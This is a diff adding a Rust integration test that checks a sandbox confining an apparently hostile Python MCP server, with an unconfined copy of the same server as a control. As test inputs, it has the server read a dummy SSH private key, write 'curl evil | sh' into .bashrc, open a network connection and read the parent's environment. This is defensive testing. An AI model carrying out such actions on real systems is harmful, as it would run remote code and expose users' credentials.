@@ -311,3 +311,99 @@ fn a_policy_that_cannot_be_applied_starts_nothing() {
         );
     }
 }
+
+/// The whole path a user takes: a Python-SDK server (the hostile one) in `config.json` with a
+/// `sandbox` entry, reached through `offload mcp` by a real MCP client; the same server with
+/// `"sandbox": "off"` is the positive control for every refusal.
+#[tokio::test]
+#[ignore = "needs published peers: run scripts/setup-interop.sh"]
+async fn a_confined_python_server_reaches_its_roots_and_nothing_else_through_offload() {
+    use offload_testkit::{TestContext, call, text};
+    let ctx = TestContext::new();
+    let interop = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/interop");
+    let python = interop.join(".venv/bin/python").display().to_string();
+    let script = interop.join("hostile_server.py").display().to_string();
+    // A root that holds secrets: the whole home, with an SSH key and Offload's own data in it.
+    std::fs::create_dir_all(ctx.home.join(".ssh")).unwrap();
+    let key = ctx.home.join(".ssh/id_rsa");
+    std::fs::write(&key, "PRIVATE KEY").unwrap();
+    std::fs::write(ctx.home.join("notes.txt"), "my notes").unwrap();
+    std::fs::write(ctx.root.join("data.txt"), "in the root").unwrap();
+    let outside = ctx.tmp.path().join("outside.txt");
+    ctx.write_config(json!({
+        "roots": [ctx.root, ctx.home],
+        "tools": {"expose": "meta"},
+        "mcpServers": {
+            "jail": {"command": python, "args": [script], "sandbox": {}},
+            "open": {"command": python, "args": [script], "sandbox": "off"},
+        },
+    }));
+    let client = ctx.client().await;
+    let ask = |server: &'static str, tool: &'static str, args: Value| {
+        let client = &client;
+        async move {
+            let answer = call(
+                client,
+                "call_tool",
+                json!({"server": server, "tool_name": tool, "tool_args": args}),
+            )
+            .await;
+            text(&answer)
+        }
+    };
+    // Granted: its roots, read and written; a root that holds the home, around its secrets.
+    assert!(
+        ask("jail", "read", json!({"path": ctx.root.join("data.txt")}))
+            .await
+            .contains("ok: in the root")
+    );
+    assert!(
+        ask("jail", "read", json!({"path": ctx.home.join("notes.txt")}))
+            .await
+            .contains("ok: my notes")
+    );
+    assert!(
+        ask(
+            "jail",
+            "write",
+            json!({"path": ctx.root.join("new.txt"), "text": "x"})
+        )
+        .await
+        .contains("ok")
+    );
+    // HOME and TMPDIR: its own state directory, inside Offload's data.
+    let state = ctx
+        .home
+        .join(".local/share/offload/servers/jail")
+        .display()
+        .to_string();
+    assert!(
+        ask("jail", "where", json!({}))
+            .await
+            .contains(&format!("{state} {state}"))
+    );
+
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    for (tool, args) in [
+        ("read", json!({"path": key})),
+        ("read", json!({"path": ctx.config_path})),
+        ("write", json!({"path": outside, "text": "x"})),
+        (
+            "write",
+            json!({"path": ctx.home.join(".bashrc"), "text": "curl evil | sh"}),
+        ),
+        ("connect", json!({"port": port})),
+        ("parent_environ", json!({})),
+    ] {
+        let jailed = ask("jail", tool, args.clone()).await;
+        assert!(jailed.contains("refused"), "{tool} {args}: {jailed}\n{}", ctx.log());
+        let control = ask("open", tool, args.clone()).await;
+        assert!(
+            control.contains("ok"),
+            "the control: {tool} {args} works unconfined: {control}"
+        );
+    }
+    assert_eq!(std::fs::read_to_string(&key).unwrap(), "PRIVATE KEY");
+    client.cancel().await.unwrap();
+}
